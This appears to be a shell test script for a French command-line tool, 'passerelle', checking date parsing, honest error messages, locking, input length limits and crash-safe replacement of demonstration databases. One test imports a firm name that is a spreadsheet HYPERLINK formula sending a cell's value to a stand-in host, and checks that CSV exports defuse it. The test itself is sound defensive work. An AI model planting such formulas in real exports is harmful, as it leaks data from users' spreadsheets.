#!/bin/sh
# test-cli-hardening.sh — the passerelle program refuses what would lose or
# expose data, and says what is true.  Run by meson with PASSERELLE set to
# the built program; prints TAP (the plan at the end).
set -eu

. "$(dirname "$0")/cli-lib.sh"

printf 'Raison sociale;SIRET;Code postal\nBoulangerie Delmas;73282932000074;46100\n' >"$tmp/firms.csv"
db="$tmp/base.db"
run "$PASSERELLE" import firms "$tmp/firms.csv" --database "$db"

# Dates are read day first whatever the desktop's language.
LANGUAGE=en run "$PASSERELLE" report activity --from 13/01/2026 --to 31/01/2026 --output "$tmp/en.csv" --database "$db"
if [ "$rc" -eq 0 ] && [ -s "$tmp/en.csv" ]; then
  ok "an English desktop reads 13/01/2026 as the 13th of January"
else
  not_ok "an English desktop reads 13/01/2026 as the 13th of January (rc=$rc)"
fi
run "$PASSERELLE" report activity --from 01/01/2026xyz --to 31/01/2026 --output "$tmp/xyz.csv" --database "$db"
if [ "$rc" -eq 1 ] && grep -q "01/01/2026" "$tmp/err" && [ ! -e "$tmp/xyz.csv" ]; then
  ok "a date followed by other characters is refused"
else
  not_ok "a date followed by other characters is refused (rc=$rc)"
fi

# Messages that say what is true.
run "$PASSERELLE" export calendar --output "$tmp/c.pdf" --database "$db"
if [ "$rc" -eq 2 ] && grep -q "\.ics" "$tmp/err" && [ ! -e "$tmp/c.pdf" ]; then
  ok "a calendar is not written into a .pdf"
else
  not_ok "a calendar is not written into a .pdf (rc=$rc)"
fi
run "$PASSERELLE" export map --output "$tmp/m.png" --database "$db"
if [ "$rc" -eq 2 ] && grep -q -- "--view target" "$tmp/err" && [ ! -e "$tmp/m.png" ]; then
  ok "a map picture without --view asks which one"
else
  not_ok "a map picture without --view asks which one (rc=$rc)"
fi
run "$PASSERELLE" export map --view target --output "$tmp/m.dot" --database "$db"
if [ "$rc" -eq 2 ] && grep -q "réseau" "$tmp/err" && [ ! -e "$tmp/m.dot" ]; then
  ok "the target is not written as DOT, which holds the network"
else
  not_ok "the target is not written as DOT, which holds the network (rc=$rc)"
fi
run "$PASSERELLE" raport activity
if [ "$rc" -eq 2 ] && grep -q "« raport »" "$tmp/err" && ! grep -qi "display\|affichage" "$tmp/err"; then
  ok "an unknown command is named as such, not as a missing display"
else
  not_ok "an unknown command is named as such, not as a missing display (rc=$rc)"
fi
mkdir "$tmp/dossier.db"
run "$PASSERELLE" report positioning --output "$tmp/p.pdf" --database "$tmp/dossier.db"
if [ "$rc" -eq 1 ] && grep -q "est un dossier" "$tmp/err"; then
  ok "a folder given as database is said to be a folder"
else
  not_ok "a folder given as database is said to be a folder (rc=$rc)"
fi
: >"$tmp/vide.db"
run "$PASSERELLE" report positioning --output "$tmp/p.pdf" --database "$tmp/vide.db"
if [ "$rc" -eq 1 ] && grep -q "est vide" "$tmp/err" && ! grep -q "ancienne" "$tmp/err" && [ ! -s "$tmp/vide.db" ]; then
  ok "an empty file is said to be empty, and stays empty"
else
  not_ok "an empty file is said to be empty, and stays empty (rc=$rc)"
fi
firm=$(sql "$db" "SELECT id FROM company LIMIT 1")
run "$PASSERELLE" report candidate --person personne-inconnue --company "$firm" --output "$tmp/cv.pdf" --database "$db"
if [ "$rc" -eq 1 ] && grep -q "pas de personne d’identifiant « personne-inconnue »" "$tmp/err" && ! grep -q "accord" "$tmp/err"; then
  ok "an unknown person is said not to exist, not to have refused"
else
  not_ok "an unknown person is said not to exist, not to have refused (rc=$rc)"
fi
# flock(1) holds the lock a Passerelle window would hold, for as long as the command in it runs.
before=$(checksum "$db")
run flock "$db" "$PASSERELLE" import firms "$tmp/firms.csv" --database "$db"
if [ "$rc" -eq 1 ] && grep -q "dans une fenêtre ou une commande" "$tmp/err" && [ "$before" = "$(checksum "$db")" ]; then
  ok "a command refused by the lock names a window or a command"
else
  not_ok "a command refused by the lock names a window or a command (rc=$rc)"
fi
rm -f "$db-wal" "$db-shm"   # left by the sqlite3 shell of sql above, a reader too
run "$PASSERELLE" report positioning --output "$tmp/p.pdf" --database "$db"
if [ "$rc" -eq 0 ] && [ ! -e "$db-wal" ] && [ ! -e "$db-shm" ]; then
  ok "a report leaves no -wal or -shm file beside the file it read"
else
  not_ok "a report leaves no -wal or -shm file beside the file it read (rc=$rc)"
fi
run "$PASSERELLE" report bilan --output "$tmp/x.pdf" --database "$db"
if grep -q "^passerelle report : " "$tmp/err" && ! grep -q "^passerelle report: " "$tmp/err"; then
  ok "French messages put a space before the colon after the command"
else
  not_ok "French messages put a space before the colon after the command"
fi

# A firm's name that is a spreadsheet formula reaches no CSV as a formula.
printf 'Raison sociale;Code postal\n"=HYPERLINK(""http://exemple.invalid/""&A1;""Voir"")";46100\n' >"$tmp/formule.csv"
fdb="$tmp/formule.db"
run "$PASSERELLE" import firms "$tmp/formule.csv" --database "$fdb"
fid=$(sql "$fdb" "SELECT id FROM company WHERE legal_name LIKE '=HYPERLINK%'")
for kind in company campaign; do
  run "$PASSERELLE" report "$kind" --company "$fid" --output "$tmp/$kind.csv" --database "$fdb"
  if [ "$rc" -eq 0 ] && grep -q "'=HYPERLINK" "$tmp/$kind.csv" && ! grep -Eq '(^|[;,])"?=' "$tmp/$kind.csv"; then
    ok "report $kind writes a firm named as a formula into its CSV as text"
  else
    not_ok "report $kind writes a firm named as a formula into its CSV as text (rc=$rc, firm '$fid')"
  fi
done

# Free texts of the command line are bounded: a pasted file is refused at once.
long=$(head -c 64000 /dev/zero | tr '\0' 'x')
run "$PASSERELLE" report campaign --signatory "$long" --output "$tmp/lettres.pdf" --database "$db"
if [ "$rc" -eq 2 ] && grep -q -- "--signatory est trop long : 200 caractères au plus" "$tmp/err" && [ ! -e "$tmp/lettres.pdf" ]; then
  ok "a 64,000-character --signatory is refused"
else
  not_ok "a 64,000-character --signatory is refused (rc=$rc)"
fi
signatory=$(head -c 200 /dev/zero | tr '\0' 'y')
run "$PASSERELLE" report campaign --signatory "$signatory" --output "$tmp/lettres.pdf" --database "$db"
if [ "$rc" -eq 0 ] && pdftotext "$tmp/lettres.pdf" - | tr -d '\n' | grep -q "$signatory"; then
  ok "a 200-character --signatory is written whole"
else
  not_ok "a 200-character --signatory is written whole (rc=$rc)"
fi
run "$PASSERELLE" export map --antenna "$long" --view target --output "$tmp/m.png" --database "$db"
if [ "$rc" -eq 2 ] && grep -q -- "--antenna est trop long" "$tmp/err"; then
  ok "a 64,000-character --antenna is refused"
else
  not_ok "a 64,000-character --antenna is refused (rc=$rc)"
fi

# --scale makes a larger large file, and nothing else.
for args in "--scale 2" "--large --scale 0" "--large --scale 6"; do
  # shellcheck disable=SC2086
  run "$PASSERELLE" demo $args "$tmp/scaled.db"
  if [ "$rc" -eq 2 ] && grep -q "passerelle demo --large --scale 2" "$tmp/err" && [ ! -e "$tmp/scaled.db" ]; then
    ok "demo $args is refused with an example that works, no file made"
  else
    not_ok "demo $args is refused with an example that works, no file made (rc=$rc)"
  fi
done

# demo --force replaces only a demonstration file, that nobody writes, all at once.
demo="$tmp/demo.db"
run "$PASSERELLE" demo "$demo"
if [ "$rc" -eq 0 ] && [ "$(sql "$demo" "SELECT value FROM meta WHERE key = 'demo'")" = 1 ]; then
  ok "a demonstration file says it is one"
else
  not_ok "a demonstration file says it is one (rc=$rc)"
fi
rm -f "$demo-wal" "$demo-shm"
before=$(checksum "$demo")
run flock "$demo" "$PASSERELLE" demo --force "$demo"
if [ "$rc" -eq 1 ] && grep -q "dans une fenêtre ou une commande" "$tmp/err" && [ "$before" = "$(checksum "$demo")" ]; then
  ok "demo --force leaves alone a file another Passerelle writes"
else
  not_ok "demo --force leaves alone a file another Passerelle writes (rc=$rc)"
fi
before=$(checksum "$db")
run "$PASSERELLE" demo --force "$db"
if [ "$rc" -eq 1 ] && grep -q "n’est pas un fichier de démonstration" "$tmp/err" && grep -q "rm '$db'" "$tmp/err" \
   && [ "$before" = "$(checksum "$db")" ]; then
  ok "demo --force refuses a file that is not a demonstration, saying how to remove it by hand"
else
  not_ok "demo --force refuses a file that is not a demonstration, saying how to remove it by hand (rc=$rc)"
fi
sqlite3 "$demo" "INSERT INTO company (id, legal_name) VALUES ('marque', 'Entreprise ajoutée');"
run "$PASSERELLE" demo --force "$demo"
if [ "$rc" -eq 0 ] && [ "$(sql "$demo" "SELECT count(*) FROM company WHERE id = 'marque'")" = 0 ] \
   && [ "$(sql "$demo" "SELECT value FROM meta WHERE key = 'demo'")" = 1 ] && [ -z "$(ls "$tmp" | grep part- || true)" ]; then
  ok "demo --force replaces a demonstration file, nothing left beside it"
else
  not_ok "demo --force replaces a demonstration file, nothing left beside it (rc=$rc)"
fi

# A demo killed half-way leaves the file it was to replace as it was, and
# nothing under a new file's name.  Spins until the work is under way.
killed_demo () {
  "$PASSERELLE" demo --large --force "$1" >/dev/null 2>&1 &
  pid=$!
  deadline=$(($(date +%s) + 60))
  until ls "$1".part-*-wal >/dev/null 2>&1 && [ "$(stat -c %s "$1".part-*-wal 2>/dev/null | head -1)" -gt 100000 ]; do
    if [ "$(date +%s)" -gt "$deadline" ] || ! kill -0 "$pid" 2>/dev/null; then break; fi
    sleep 0.05
  done
  kill -9 "$pid" 2>/dev/null || true
  wait "$pid" 2>/dev/null || true
}
# A person with a confidential part, and its text as the file gives it, read with its key.
secret=$(sql "$demo" "SELECT person_id FROM person_sensitive WHERE detail IS NOT NULL LIMIT 1")
confidential () {
  "$PASSERELLE" report person-data --person "$secret" --output "$tmp/secret.json" --database "$demo" >/dev/null 2>&1 || return 0
  sqlite3 :memory: "SELECT json_extract(value, '\$.records[0].detail') FROM json_each(readfile('$tmp/secret.json'), '\$.sections')
                    WHERE json_extract(value, '\$.table') = 'person_sensitive';"
}
# The old file gives the same confidential text, with its own key beside it
# and no other key left.
opens_with_its_key () {
  text_after=$(confidential)
  if [ -n "$text_before" ] && [ "$text_after" = "$text_before" ] \
     && [ "$(checksum "$demo.key")" = "$key_before" ] && [ ! -e "$demo.key.prev" ]; then
    ok "$1"
  else
    not_ok "$1 (“$text_after”, was “$text_before”)"
  fi
}
text_before=$(confidential)
key_before=$(checksum "$demo.key")
rm -f "$demo-wal" "$demo-shm"
before=$(checksum "$demo")
killed_demo "$demo"
if [ "$before" = "$(checksum "$demo")" ] && ls "$demo".part-* >/dev/null 2>&1; then
  ok "demo --force killed while at work leaves the old file as it was"
else
  not_ok "demo --force killed while at work leaves the old file as it was"
fi
opens_with_its_key "demo --force killed while at work leaves the old file readable with its own key"
# Killed after the new key was written beside the old file and before the new
# file took its name: the old key, set aside, opens the old file and takes
# its name back.
mv "$demo.key" "$demo.key.prev"
printf '00000000-00000000-00000000-00000000-00000000-00000000-00000000-00000000\n' > "$demo.key"
opens_with_its_key "a new key left beside the old file by a killed demo does not lock the old file out"
killed_demo "$tmp/nouveau.db"
if [ ! -e "$tmp/nouveau.db" ]; then
  ok "demo --large killed while at work leaves nothing under the file's name"
else
  not_ok "demo --large killed while at work leaves nothing under the file's name"
fi

# What a killed demo left is removed by the next demo of the same file,
# but never what a living demo still holds.
leftovers () {
  ls -a "$(dirname "$1")" | grep -F "$(basename "$1")." | grep -v '\.key$' || true
}
parts () {
  ls "$1".part-* 2>/dev/null | grep -cv -- '-wal$\|-shm$\|-journal$' || true
}
stale=$(parts "$demo")
logs () {
  ls "$1".part-*-wal 2>/dev/null | wc -l
}
stale_logs=$(logs "$demo")
"$PASSERELLE" demo --large --force "$demo" >/dev/null 2>&1 &
living=$!
# Its log is made once its file is open, and so locked.
deadline=$(($(date +%s) + 60))
until [ "$(logs "$demo")" -gt "$stale_logs" ]; do
  [ "$(date +%s)" -le "$deadline" ] && kill -0 "$living" 2>/dev/null || break
  sleep 0.05
done
# The leftover of the kill above, and the part the living demo writes.
held=$(ls "$demo".part-* 2>/dev/null | sort)
run "$PASSERELLE" demo "$demo"
still=$(ls "$demo".part-* 2>/dev/null | sort)
if [ "$rc" -eq 1 ] && grep -q "existe déjà" "$tmp/err" && kill -0 "$living" 2>/dev/null \
   && [ "$stale" -ge 1 ] && [ "$(parts "$demo")" -eq 1 ] && [ "$(echo "$held" | grep -c .)" -gt 0 ]; then
  ok "the next demo removes a killed demo's partial file and keeps a living demo's"
else
  not_ok "the next demo removes a killed demo's partial file and keeps a living demo's (rc=$rc; before: $held; after: $still)"
fi
kill -9 "$living" 2>/dev/null || true
wait "$living" 2>/dev/null || true

# A demo killed at any moment: from its first instant to its last, the
# file is absent or a whole demonstration, and the next demo leaves
# nothing of it behind.  The moments: at once, as soon as the partial file
# is there, as soon as its log grows, and at random delays.
fresh="$tmp/tue.db"
for moment in at-once part wal random random random; do
  "$PASSERELLE" demo --force "$fresh" >/dev/null 2>&1 &
  pid=$!
  case $moment in
    part|wal)
      deadline=$(($(date +%s) + 60))
      until { [ "$moment" = part ] && ls "$fresh".part-* >/dev/null 2>&1; } \
            || { [ "$moment" = wal ] && [ "$(stat -c %s "$fresh".part-*-wal 2>/dev/null | head -1)" -gt 0 ] 2>/dev/null; }; do
        [ "$(date +%s)" -le "$deadline" ] && kill -0 "$pid" 2>/dev/null || break
        sleep 0.01
      done ;;
    random) sleep "$(awk -v s="$$$n" 'BEGIN { srand(s); printf "%.2f", rand() * 3 }')" ;;
  esac
  kill -9 "$pid" 2>/dev/null || true
  wait "$pid" 2>/dev/null || true
  if [ -e "$fresh" ] && { [ "$(sql "$fresh" "SELECT value FROM meta WHERE key = 'demo'")" != 1 ] \
                          || [ "$(sql "$fresh" "PRAGMA quick_check")" != ok ]; }; then
    not_ok "demo killed ($moment) left a file that is not a whole demonstration under its name"
  else
    ok "demo killed ($moment) left nothing or a whole demonstration under its name"
  fi
done
run "$PASSERELLE" demo --force "$fresh"
if [ "$rc" -eq 0 ] && [ -z "$(leftovers "$fresh")" ] && [ "$(sql "$fresh" "PRAGMA quick_check")" = ok ]; then
  ok "after demos killed at any moment, the next demo leaves no temporary file"
else
  not_ok "after demos killed at any moment, the next demo leaves no temporary file (rc=$rc; left: $(leftovers "$fresh"))"
fi

echo "1..$n"
[ "$failed" -eq 0 ]
